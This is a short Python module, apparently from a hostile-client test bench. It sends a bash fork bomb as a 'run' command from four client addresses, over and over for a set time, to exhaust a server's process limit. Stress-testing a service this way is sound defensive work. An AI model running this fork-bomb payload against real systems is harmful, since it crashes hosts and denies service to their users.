"""Visitors at several addresses start commands that start processes until the kernel gives no more, and again at once."""

from bench.hostile.clients import address, again, for_seconds, frame, until_complete

ADDRESSES = 4
BOMB = frame({"type": "run", "command": "pyguard bash -c 'f(){ f|f& };f'"})


async def attack(url: str, seconds: float, token: str) -> None:
    await for_seconds(seconds, *(again(until_complete, url, address(number), BOMB) for number in range(ADDRESSES)))
